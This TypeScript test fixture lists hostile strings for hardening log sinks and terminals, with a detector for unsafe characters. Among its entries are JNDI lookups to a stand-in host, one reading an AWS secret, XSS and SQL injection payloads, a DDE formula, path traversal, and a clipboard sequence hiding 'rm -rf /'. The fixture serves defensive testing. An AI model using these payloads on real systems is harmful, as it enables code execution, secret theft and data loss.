/** A text that an attacker would like to see in a log, and what it tries. */
export interface HostileText {
  /** Short name for test titles. */
  readonly name: string;
  readonly text: string;
}

const every = (from: number, to: number): string =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCharCode(from + index)).join('');

/**
 * Texts that have broken terminals, viewers, parsers and stores. Every command and every sink must survive all of them.
 * Characters are written as escapes, so that this file cannot attack its reader.
 * @experimental
 */
export const HOSTILE_TEXTS: readonly HostileText[] = Object.freeze([
  { name: 'forged log line', text: 'guest\n2026-11-23T10:00:00Z INFO login success user=admin' },
  { name: 'carriage return overwriting the line', text: 'login failed for mallory\rlogin success for admin   ' },
  { name: 'all C0 controls and DEL', text: `a${every(0x00, 0x1f)}\u007fz` },
  { name: 'all C1 controls', text: `a${every(0x80, 0x9f)}z` },
  { name: 'ANSI colour and clear screen', text: '\u001b[31mred\u001b[0m\u001b[2J\u001b[H' },
  { name: 'ANSI hiding text', text: '\u001b[8mhidden\u001b[28m' },
  { name: 'eight-bit CSI', text: '\u009b31mred\u009b0m' },
  { name: 'OSC window title and its report', text: '\u001b]0;owned\u0007\u001b[21t' },
  { name: 'OSC 8 link that lies', text: '\u001b]8;;https://evil.test/\u0007https://bank.test/\u001b]8;;\u0007' },
  { name: 'OSC 52 clipboard', text: '\u001b]52;c;cm0gLXJmIC8=\u0007' },
  { name: 'DCS and APC strings', text: '\u001bP$q"p\u001b\\\u001b_Gf=100;AAAA\u001b\\' },
  { name: 'backspaces', text: 'admin\b\b\b\b\bguest' },
  { name: 'bidi override', text: 'user \u202egnitset\u202c \u2066isolated\u2069 \u061c\u200f\u200e' },
  { name: 'zero width and invisible', text: 'ad\u200bm\u200ci\u200dn\u2060\ufeff\u00ad\u034f\u115f\u3164' },
  {
    name: 'tag characters carrying a hidden sentence',
    text: 'ok\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e007f}',
  },
  { name: 'line and paragraph separators', text: 'one\u2028two\u2029three\u0085four\u000bfive\u000csix' },
  { name: 'lone surrogates', text: 'a\ud800b\udc00c\udfff' },
  { name: 'non-characters', text: '\ufffe\uffff\ufdd0\u{1ffff}\ufff9\ufffa\ufffb' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  { name: 'lookup', text: '${jndi:ldap://evil.test/a} ${${lower:j}ndi:rmi://evil.test} ${env:AWS_SECRET_ACCESS_KEY}' },
  { name: 'markup', text: '<script>alert(1)</script><img src=x onerror=alert(1)>"\'><svg/onload=alert(1)>' },
  { name: 'Markdown', text: '[click](javascript:alert(1)) ![x](https://evil.test/x.png) | a | b |\n# heading' },
  { name: 'spreadsheet formula', text: "=cmd|' /C calc'!A0 +1 -1 @SUM(A1) \t=1 \uff1d1" },
  { name: 'template', text: '{{constructor.constructor("x")()}} {% raw %} <%= 7*7 %> #{7*7} {{ . | json }}' },
  { name: 'query languages', text: '"} |= `x` | json | __error__="" {job="a"} \' OR 1=1 -- ; DROP TABLE logs' },
  {
    name: 'JSON breaking out',
    text: '"}]}]}]}\n{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"eventName":"security.x"}]}]}]}',
  },
  { name: 'text that looks encoded', text: '\\u000a \\x1b[31m %0a &#10; \\n \\u005cu000a \\\\u001b' },
  { name: 'prototype names', text: '__proto__ constructor prototype toString hasOwnProperty' },
  { name: 'numbers that lose digits', text: '9007199254740993 1e400 -0 0x10 NaN Infinity' },
  { name: 'path and option', text: '../../../../etc/passwd --trust=/dev/null -rf \u0000.pem' },
  { name: 'combining marks piled up', text: `Z${'\u0300\u0301\u0302\u0303'.repeat(64)}` },
  { name: 'printf directives', text: '%s%s%s%n%x%x %d %o %j %O %c' },
]);

/** Names that have broken maps and stores when used as attribute keys. @experimental */
export const HOSTILE_KEYS: readonly string[] = Object.freeze([
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '',
  ' ',
  'a b',
  'a\nb',
  'a\u0000b',
  'a"b',
  'user.name',
  'user_name',
  'trace_id',
  'audit.payload.x',
  '0',
  '-1',
  '\ud800',
  '\u202euser',
  'k'.repeat(1_000),
]);

/** Characters that must never reach a terminal raw: controls other than line feed, invisible and direction-changing ones, lone surrogates. */
const UNSAFE_ON_A_TERMINAL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is its purpose
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]|\u034f/u;

/** The first character of an output that could deceive or command a terminal, as `U+001B`; undefined when there is none. @experimental */
export function unsafeForTerminal(output: string): string | undefined {
  const codePoint = UNSAFE_ON_A_TERMINAL.exec(output)?.[0]?.codePointAt(0);
  return codePoint === undefined ? undefined : `U+${codePoint.toString(16).toUpperCase().padStart(4, '0')}`;
}
